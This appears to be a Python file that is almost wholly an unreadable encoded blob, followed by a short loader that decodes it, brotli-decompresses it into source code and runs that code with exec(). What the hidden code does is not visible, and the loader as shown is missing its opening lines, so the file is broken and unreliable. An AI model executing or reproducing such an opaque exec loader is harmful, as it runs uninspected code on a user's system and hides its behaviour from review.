$T@bgVr<	f$>!6%֊@J:'T4ʧ:&7ʷ8.MhPU>CaN0;ZC*E$HgZ(E`AəwfhؐsCd.[Qm$OܥC5ɁDX;&2.MmBd^GcjjԫWG{PoXD~>RJyЍ$6~	8Z2iʃle:{,w^yl(9;%PkwW$Zމ i{h'5O.+mjuȁ!k5k1^ۛkzҌ҅y ̂DlE?vmٲ$Ʋ~;)Oދ)c0H&[Ĳǩy}lɘ;jJ?Pj2\.zEr6"_4ZMfd0lK_r0Z9w0MՎڼIK\īsDq]3-M8S4|"nMQe˴R(+w>Y9H	5HۆFfRP˴9Jو5tIγpP6DXΑ_VC/X1ڟH\=% k{H!+c%>1ʽ#ڪġPpċX_-;ʬΏb&irչe~CGTE?/%A7~,@1>0HkF6{grfCFL#}Hͩ"i\c
vq [.J}](2٤jTO}]ׯ9aU6hެ94I@8\THJLӚnb;}WB}ٴ-X͆ F>fcEmN^[˟}#I{$w|8J԰`<'I)P	98M׈sׅm_ uZN5%6cG6r6=OQ8t15d.=d[{XS:
b.6'fgYldg&.ЋJїhp'uZ$CԎQ_|ڔ@Cmʲppf3WrF7;o*RЃh:ILϵ+LYQ64λԾP%Qoh)i;y/jMםGٌ_(X.۠439܁bkb4#U2GS.l#eۖlG+ >͝ʁe!ӇC`/\ױYYqE}{Rg_"0g+W"|ʚtmaDD<ַ1ݾ3 CbG^O#,)I%/R'y܉gk\ʺҫ/cѭ;Fh[BȎGyΓ{\LӶq	=Oݹ#*=hĉsj	/	O3b6ve6΅íXlGxhASH'	Oψ
xr";<ǅfn6ޥ3AdźM@$Ky2]wia>U
QuGLUU¢V4٣X#H8EmTj'NFR ~dpaXhmC%ȕ|qOZvݾ<JSޫeB%lhmұrH(1pO8l^?ה^i1z{P3QW1i5QZ1_RVŠIXĶx^&iix
4k8WU%;oyܥ#ikZߊhM\1vg[ W։cb]ϒd:I:P	302T)cjTb"oQ86(ʶ3)~̄r0	:YvOQ$?N6&UFXEY2|:hH5491D!m"'enjPb¶Zǒ϶\[=$\jYՇFUmxR.S%'XImѫ6l4ePK۞)zyV)zӵJ\4()ñt _nJ	Ţ7^/pɍ+_[d)P$y?6ռTAj:8K
"E*/]k/A!oUyJwfZl-zWѳh	=|(gycCfߑZz}<ӽpHobjHts|jÐJxb7?Tǵ=5]9ѬpsZJÜ4]~"JyԦs)y*UD(Ŕ{A_u8Wіe>mL¼/9J¡Xώ6|ψaXZ7ʉ޾QG}ekBuC۬@a?`hȒb`pݪK5#}o|*$RR8:oJez26d\"sFRyvC,EvW%W@MVEr@bgRMŎi؏u('<q}\E6<C0U!Gq&A0~&ݧV5p9()Pw38:~sF^6V}aĩ{fAxJ5}].\YNuaB7]-oQNڙ5xOk{ülzδzeBewts^-܍6gED@:jcMG}DZsR7ԟZbIėT=FEXN*oXYYw.eϞs]ujY6nr11>ݐBaT Įz!\Cټ֫7=)'V !7-cC=O2!H=ynY*j }ׯoZnI`Ӈq5h~UԤDHOјHH̏x,iA+6 ՠk|w6Ltk^v
f5inƊ{:yߕ)';֌28Zu3Hc;+hbHĩr6
׬mЗrM,߁hhci3C]NjޫI
f`8Ɋ>Ȳx+t&x\4ԫeJ1-ѵk$("6יv%+R_3J`@C8`TC%ɾ%$G-XA& J:`^4<Aܑd5X,}Q!etYF5:վTxy˛N% \*XTEfyxֳkUҲ}xerjԩȁn԰%q?p#|ڠMJ;0<\٭]\A߸8I	'makN`ޥR:eVrE--dݳUk#nУ%\;5OS$ģDDU`̡0$+aKgSžE.Fq@`Tq2*eMڃ$nA/+%iM1)9njjR 9qaHD~F[0xR!uu@
2"[Ҁw6ڜ%4ױJ *@0QŠŝZ߰:*V4sҝ2nO-m0lQ
G6vK}nM (~F4hX yEoZFcEũQX;LFbFN<a#Fo6h%dѱY/VqZ%/A'j2ovɃW6ub"A=uIm#;{coSO<gмuphҧ:'KjυϪ(gJLƱ|t_0V͸cn.HVW&͏=:5Q2!23BIvэTÃSB[={n+Yӊ+0Lۖ"f|0AdGTʦ9pU8N,;&Utl"Gń`ٓ67ݨeMz6TzwўAIfP^ŁPڊ!vMY2U;svͳt(zӊREAAWq;գ'cts/,Z|R"`;<
_¸U7Yd8|D<~)q,3,0Nn"<1IX0ݟYA'îp\Kp<$l>rgڭֹjO¤#\>l1.:oq )zSkk5XDXγJ/aA?Ҝ4φk$ӞJwmbE׹|lZ|`Ë*p5Yv$Չ:*q][jda2?]xCȉEk͔:Ջއ$#|)vC]ޏ^D2nřŎ_wQd,-+5z@w\Q!vSCĔ`ōj33":3u%&)por]ƃ˪V4ĚL3WD)cf9nm5htTZlLҭN8*s^CLa2KFuNj[QXˈr:ܻo!2 qimf z]oգQH	Y_ZBtZ
&sb*xǻKh͢qvJBm9D%UkDPڂqOx'4%W}Fm"TJaӈ<ϵ]ѕn8*U#ZУi}%	4E`:g/ %Pו~}XH,˘0J@2F(i܂--ɦ	KS9ɒ֋ȂQ2,ܩg*pZarqUOyF/e,bwv=e1zDDCcɕ)	].Ԋ@++nnm8XX^GCRhU#we*<dh:q¤ϐߡ4MMuhEu0[AGMv>EK>F$s-af7̏wR<Kl۝d'ѦSIA*,TuU7
M8^N2|7ԯl(˅e LƉ)EjhV1QO%+h}Z|AZ.4A$Β߯,ȃ;Mk*^	ĈY4cx92ԣϋ9_SwDܠ
Pg(vY;u4Fۊױ)i@:DdGQ]`Rcڞ|0Ĳ'`	إWwp+ufV$'ӎ/zD̤|<e<Ylr߳zڌX
X:-L&U~Ӌi.2s	^<ǔ4\ar	pCxATxNt0.OUgKٟ/,vAHpRnqŠK}]nn|̾Mq#=g
^݇[KҚYG[(țM2lWAu̥Aex;Xz}O]
 *;aF8EJQ)H&IoO(Ouӆαg*9+I)Cl5Gdǣ!w}oVQn}[@_ =>M"SJbq+^uAΖX{KIjY%65}ȍ7ͷ$]ןj#WƗ2aա9b,(Wk.l#AڡUc$Čf=W\tغx-
8qvűϽ`'AKլ>yބƴ0;9/އ&	"G`$ifߐ>dgs)cIƛ]P_{:_B]HOpC2<V>ϥьKE_728kٳoӖ0glw`"D4t|ӈlmɠ0V++ j@&UݚSր̠i7/ժwն)fAڱy[ѩ(?XAh@hF3<%-tU(fFJ	\O
ai;G6x[^|MTnuF"V.Oϥ.G͚\(Xʫ3]F˖Wz_
2Βf@o^dɼļc(>I]AydkJWDEEtw?,;ߔq3ۅS5ޠV1R;;!|0|)ê/#SP֗l2Hz'I]7)o#0|J~v9[<%>Z@ӑhC͞cEqt|9;AOwxNy:	I*kk=pP|wh6Ï'4d|ۄ:9RMM#yAvłwM
%x"	CTa9JהߌkpUR5+s`v9,?D9ڝǩKX)@JZ8f'ǫ3O/#'[$Xueb0I1eKɘYStV|<Sj}~ɃD][/}KzO߿^<g`3ϓ#(nl?zΣCJ|ڥb&S4>|tay-$qu8fNg>֪TJMyXPu̞Kݍ?-)4'ڡovōymPC^@\b(DJ+֘'5V7]Ġo5DՌ<?.J-PcwWvbGra=~Rh4ϕ?cP_@-,^ВAճu/:N;xQ+M^Hiѻm,>+4AZap*{÷LؿCʈN2?:=\0)X+,lNNrF.lإ2HyŴ2;g V09Yx:J®qM~q@YdQQѾ:m9Uڸ-;o
mp4mHICm:by.`Cnp5~ځ,bx4DtC6?~ϛE$mcRSg>BH$QΪ.G-XcلrRmeٰ0,3Wa4
|+ЛCӈުsn9PA6+Цyht6nQH/	Å͋T\ifJ\@Çϴ#ũT׮7BtHh2֩˙:y\x^<s[lWUK}^5G7A))4Z|*Bup&۩\@FzZ`9:	6^ʾpE^y21q ,swC7V!ʨَ&i|ǧLcے$^U
^PM ,Z:H #|s8jtȪKm<w@zS6Ӈ3178ڽٖ2<FAEWYaũhY$M4fve&P'8s=s{\ǔ IDv:hi=K#{jYe	Q+4n_ytOba@N\ߢ6h08vuȫ9޽Tۍ<6E^mQ+Ɯ0,Ŭ,Lg1{i0|}U)nwi&8VOh_e1%cԭT݋|S5Ԫ|Yv-xgNc	534ڿ.3̑C6LFjʅdiNos(4ˣ[C	P}Űܫ"/=a<z&NPZs>4U#%-(H6z0މ6̂XhSn;0mŚcÇŹ]d+ߠA_~uЊbFǂ-øiקNd9?*Axhi=,AzrϪ>x8UݵE
[ɆMEC
2͋86o+_q/9-NZ:Yh7%F u37bDs`ϡ#%DgVejP'#M؟ȼʰapٜX2aw|9"Hn:U_h@biG45+|)xކt/sWDzH'{n;'ib_)֧DT@78ֻ{0R8d̒ðq7X8Cp6~&k?&ڍNQpDM$qksO0=Yc3bfIۗfω HA<LxɧAbz=}") ;vpBb)8:RXէB<gDdv zP\ab̥^pīP_l_8Bc9ܕ'c|l#ǣT@lt|ED!8tmߕfvoKItF:kˏt?QҔFN17'sLa	AǼћCnk'wk7ٙ*`,ю|9(އTYwYӥ;[AEt2tNҩhΖ&uM~D27I"޲K!6dĳ=VݻPP]جxv'),p՛bxVkNm{^dV)zio$Ӵ/)~t[1vӢ?dvC
t-ه;$BV)& Fcd=$|h>^?"Ŵ>$W6xltL6{#/I܁jDlY>I|h
jH:-ɁCZ:
52sk՟P{aA&,?oÅkUG|&۫L^f}$n3	׺7qJTEˁγ:{i2_6מnaJN50)DSBqsx1Vb"8B#>l'ͭW c2Տ4ފ'BՉh'v/ľ`Ũ`g)U[۰(_dsҩ3UF44seQJ=nɽـC,5[~Giϻ)*uImsA}D~U!{]Mdx$kdV[yj$Ѵ}ؘgX'ueOSӱBq9Ղ,$69ȓǾk57:dUhc̋ѶvյP!b"mwrDzJxǚp#GVg/X
JFr·L_9!mۇZe}W;RΈ8sK=ڵX:J"6(h]èIezLi"ww̮(r']%.ɥ{ϨwNйU
&.ܡͬl luQHR4~+٩gѩ_N=$+4`@;34AȠUr̈́m|R^ׄƂ5O»F,MP~Vع~e2l+loG	U1[sg:Õev*6[>:	*f˙SbHDFsI`_BpNkɶԬR=e÷wy۩S'w>&;4^)lPf#Ewk17=Z`6
KL-ώNp5_ojȬQߞhlv|šnhI)nNq+1?G]\{WuG4<3'ZIF6~`V³A=yYDܥp٨N*Φ8֔9ʜ|Z6oZvZÝHya<xNJ1؇J"VNQa*+-&u aA2^"eM|b=T/e3/EI[*e/ΑW [~(͚͠ǆp@7(.&Y1xܺchMH]1{^>Pkk:)<Vst*n}DSA|LE<O.3@Xx2&RgheqHt[<Ox +b%h4UH]ɟ8BntˤYLsBFHڪ55Ӗȑ]?45?{{[6YrǞ:ˌGސ-0E0̍aƯ5Prak9I,}sthUݍWE.f~o2+=l%mr.}C:]f9%@PCuz'i9BĲ5=+*\ctA.DOZ$Pg"9qA>F{s)߂xǁdjyL/yFp8WI[EugW2gqjViug.aVs]|o-_5këPiGcT@9!?{|h4IΧ!G ԓLD(9'5dT2OSoRb,g`:e(
;מۥ˒EW̓aW̫@|WWfYZ<q~DsE˙v7ĜG'Up9]nm
PTˠlaemqܷӹտF'L%x*Щ=)A)[[ޯ(oϿ'`zP:"*_&t+ @te31n"N=e&vNhUt<t)pi4i/8NAѳr1,**JS.'yɅ^'8/?%[{!\P;!\dwv	i|'jR<0ġi$v(\#h]R6z-:nR/%9Ŝͼ1!$}SJ.bhز90$i,{XZe:KۓmťoQB\׎%Ȃ3pl#zȺkU+y҃=
geeNXtm%;#5u,C$V*Ұ	YHSzMN	!ˍL3jD^.|=>xlTӧeKY`1eŃ(ݮiμZukM9eҗݹ-I8N$R,lZ`l`W$ݬ#`;B1XrQİh9fH/>[?&<:o;@pզ,_iyFiY^hqbʸu_t"8rPH%R-}єDe}g1ωjS	LBdeP|m	Glٸ#[$ͰD-vJAҢµ4pZ>ROvֱ
H°#¿Jуg2Ժ7Fɮ%_g3!d Z{Ɔ@n%9
zd`+"?n->~^TDU0>RPߜx1ZR߲'?>VsP&CؘF\Qi[<@\F3̲Ҁ\Ր]~+ăspFѾeҐδɤ"O0B\WAѝ6,9sb_*ҬuAx3DRB0",f3;u2Gxcn=]!|idۭyL!%ZߌIf|J>_Y-!UI!:);wV,SUElY6׮y)pX37ɻȰݡ;F%KosӑҎ>epx&5O3}\4ZL2p.2;}xZ'{AE*%O3W;Á#uR,4QõBM~8vײrBooޒ[LGޯR%PEY)1myaBޏh6֞
$]жA̐my.߈fv-jH=mBM	vݫYj?t%+ږpIx#Gi{;~ȤLVXb4CN9r~&Mw%Q AymEַ=ɶ:Oi~0:	RϚ]M;X B#F<BD%ߺX11,dU5Kp^3Dl:ѡP1{S!;bZ:u[ߛ`Pg*
zjY
ʬCԣWEmUsʒFɌ¶C܂ѝV'Mi6>Hkښ^;^v:UCAÕF4F;spP0Kd`@~aE7v*0 3|<s*M^=n]љLw>^#-)
 ȷn9fq`-#nY#5ؑOAWg%X!@Y<t.ͅ8ױGZUDJ$?ۿ@:&
wzw>Հ'#!gv%(S܁!Gź1Gr@zr!%~>r͘ue͖W;Нs&R69vZfS~[Klχ:TuLgTG3QsѾŻL\uΓgy;+W9\z,Ӄt(J1"ә'kxʗRµ1Y3mbEq8=4hG}g+?Xkۼ8MXi='`Zw[zIߔ!ۮhn
-GÃ	UOƱٚq[bfB$qxơJZTޔt5VS6"R6ѰT'lݨtH- w܁uaҮGe,BKMVD_ٍ2ϧfA@^dߌ`1eK[4KmT7ǹv/T
zK6bI3]α+X}lA7ĮA.3+tc1#.8\t)[e2pR%:JqpŬݞg2'|4"qOڛ{	Xݥ7\i_xQEÚ^9S'uϙv,K߼Z\o>f6`#"d@HLbd0owOfFWhPRCA#SKР`;+_t7-k_/}`=ؗV(uW7"Kk9T< adכj9Vs}V܉q	S2"y!v3žA1Q)90>oJ>αh;OS*ʒU)֡K9?!^LÉdd!>u;1=rpő|܉_<^#^Y͇7ONl*7.Y &cLl\+\FD(fdZVeDڴئݗ{Ɯ{,k%-,b!:jP{",-0S\++ 9yO/r^/	8Ĥ`sAP
"h J6ZK%qĊc,ǂNa&zH<l5Ԓ9o{в0Sve|ǿ#nN+G+[|ov&r$">gnZB\٬{XnPQc˞%MhW"H̘ UN2=5ƸǽEͯr=r7bٳ7k1'OO@9G7H_J@4ΎŎ7%;q\sanKn[sqh"Q͊F0pBU{WbH+!CmÞS͎$ݏF=poh_ChdBpg;6&тb3zm;hU0R<Ȥ@ÛOq	խ*4e"6
̓g@ZD9V;CdvCY5_AiIN!dGNo߽|~sA!;wtOrsJa(ag{? `YēϨE;Fdl1 6SeV7Y ~*'-Uͮ-( l|7cfs/k
נܩy#8#Zb[c1(qf{*_fa2ۚv@j5˛DŞ!f2V!zMvsSȍ"Z]WM۠w61Q2A=]){7Ō;#d5&u\0AfE&`G2}+(']yǇpp;lђ,ۆHlXǺc"NSÎBư_կt[w=ָYPsSBULi Ngja,d6b*6
ŐDTy%<@3^q;gɉs"
BUollDlF^^}43ڣsѱjMo~o̔vha~ݹiܱI;T>.mh^ԢfY5z%alo'\Ё%XjTNOvSЙzk41g[pD4X;UF"JgiI@߄F>/wY9ηHjY+E$3L]۫.=Q*[ڨ8b2\<
83']99͔Z@,'6= (/K)6L%}7tpA@­m۷256(Ԃ%k#o1ڡ0bgX­p$)FQYöAe_>'pӐy,qJZӉCTD::N	 zp1CׯǨ5u0kY
Q@$ڙ,Fj)&:fqr/HNgC3uQEpF-
VU3_\upk¿XAR#x9~slD<ѱ+@\{59&MKסcU1!ya"=7r	Mh\WɒZoGBOtnUK6Q
l}m1OPh,E*_;^Dp@P@>{<)ޞtj|0}>Q7OL+Tx,q\ttb͂OnؚQk"feBQʻy]ΐp+mNzܼ*E H"`R?;H7 FBɹ\5a hYCRigK/X͋ F̮ɴM5?xt\
*pΎ.Do/ UݥА,b&CL)'ME_mKT9I07V.%2}Ni873(#362;R^\$ko)R;xÆkIH*])
ӲtMn;C9kKnb"ʤ0",'?UJ$T nz3ūKWHEr|B{Y,]{T)ZܔƹԐtKOkz,rѽY("	ܟ%L"s%6YB|qnl6aեu{9Um>']ł|:48X'wK[`9w%dc4
#ը%T,wnN\\|ԟ5m~2<qC;t4u^M|za t;dTK-5#ԅ'<d9bA""'N)9CM5֓qZ_oscg'F˭+/b4ou%Fpf$:|ČYΝYgv^2N2{bHąld>Y]MF)p4?c>JR'GO,|HŸDvʠSms4=yk\	;M1'Uldv}z6]=hwu8XUYȍ^/ϑ^b*D:8ݎeu[9;ڀm3H *"ޢԵ]VG4GȄ30[,B݄_7֓рE))8~E!vќn̫')eb|jW1
XωWѐCB6F2Ma/Xyfqg%pjȾnOIpSmA^6GSY<+vh*̛̠XJQ&i`ȤzD\i1&ưˈuWg{	jJڃVkʲqZ!YE*QgH9@lF|y7	?!}:3TӳݲFւb.io2{	kJQa޾҄(]ݵ~5ׁޅW}i=5΅\4ƶڊ":TzsC?d17"բ&N?Kv5e*7hyFo,H	R3Ne9P\=Ԛ"g[*iމFGc"y'~UwWPH1juG0tj=ŁЄ\<A0J݊["o٤]ۗ-9#9Y9r|\)!c>Z8$گtr{k!tkqu޳jfySqvׂ''Tu7-WtŦmcD<g7H^Eеʨ7. UNs+_N7U&y	vlv	^08&nUޚoԗ61&j!<$f9W)}CaLiϷU3S%´X'>{i@݇-Mb`}^ Ր\%vAp
/l^L;Ñp]ȪGPX\;v7j"ֳaYe &r1qхYV֡"h5Y<DgW~;nkZst/O4H*ܕyM&Y[2ZĦ219H$
bkԝ=
8ߒ!vU8I7"@/Jz/LUcѯȑ/zP|n(K̫TJ		`'@l];yKrݰb=]7'o*̩:@|ׂ֟d8f`(8j+,Lww4c.>UܔC;[X}w*ڞO,bW+T,R&icT]@}q՝0B83}d'%Oq=~oiU2k<,̱,2q!7&4%BJ߇)Jܙ%YYdKFbp%Fwdz)eW.WJ	<~vSqofRĝwJN>$f!,2D=hmlQMo.OE{zStm;61rw-PB;Hs`Ze1a-JS٬JS]ݷNIKL2-ah ŷvyͨ;Y5í!c	ѕ&l6_)g@*ͦ\Sw݈	ζevߜKla6_Ҭfhf}s0*F?vvǣ9hxԾyzoSU_GU_Yfϓ=YM/ѩOع)BI!ax/MqO.+.n<FGN{g@*YfZ76lNbzܷ7AkwӼFM-MM֊fRiJ2N{ͅ܄oa
&̾	!k=$+@{+΃	c8{.-nce} hڟc\rTEȜf#5_f/S"Q|\ .tTair"Vsk[¡E KlZ_ŋ?`<βz.LO$|	,QB Bv6@AC4_}ó@Ssh$T$;vݧ9e:f*.r;YщoǾEb'~j<ʊ[tYt`@n5l8J0Ѱ$YM`6QW5}ecevi`5ryMh`7uk&}Rtm!m~.KeYx яiT]36ֿeN^VܺgҮ1Mt
,N6
ze;^[_Τ0EHZYR_63rAӨCCZ0ʘ)lјWAO:x5E;бosLgNEOWiݲMQ-ޣB7ԅktUL`#&OGQA"sc2'gSHϐf=c]^4BX5rA.OJH [78-mY
U ;ȉ!lq̓ALyġV.5 rDBXI;ڧwݞ5h=&EŜРlaGgǼj-
DݗX
,MWxt
/d\Oن0LзCSaL;P;|j?ڑ)׋˷9i!"$"[Jӥ97	/U?M՟Ti=ډ!	f.J]oDƈȩ"ZN/˛ݥ	f G%3mec̤$Km[S@>pTjJdnTp~e&ȷ3K܊ ̢Fє'1lCC}"*`ʴ"<HڶۆcPr7YZ(
(iP;
s@1pNsbm/~)5Xv52g֢ynӍbtl0qn@;U6iSr1B52U=c YO+Ԋ:ѿrڎ*z?zEX8IQ.9G˥>sOjbl<pѐ_(ѐ*/XWyd<8яo\[!~TD8Ry
pݦХQʡ%u,nӳE''k\l{,x[LĴ޽y
wo`qC6E<+ٵAe6Ӣ	$\O-BK٩~8TxY_ل3&00/38O"ywFR9Ȍ)ٚlYR&.tɾl(??pҚ0W7f̛pu\w:^jeFk[ 2L{#Ӡ5ǕB5oD_w(yzͶKjK,s9>Jzۊ'cOy^ҵs8cIUXc/ʆʂ̓t%_pw?}">I{;lƧ)k/ށ$(	Cv}˖^S/˫2[yDSx'x ݸ>ۏfčɉA''':
 o=ord(c)
 for x in([o-1-(o>13)],[o-128,126])[o>127]:n+=x*b;a,b=b,126*b+1920*a
s=brotli.decompress(n.to_bytes(26470)).decode()
import linecache
linecache.cache['<string>']=0,None,s.splitlines(1),0
exec(s)
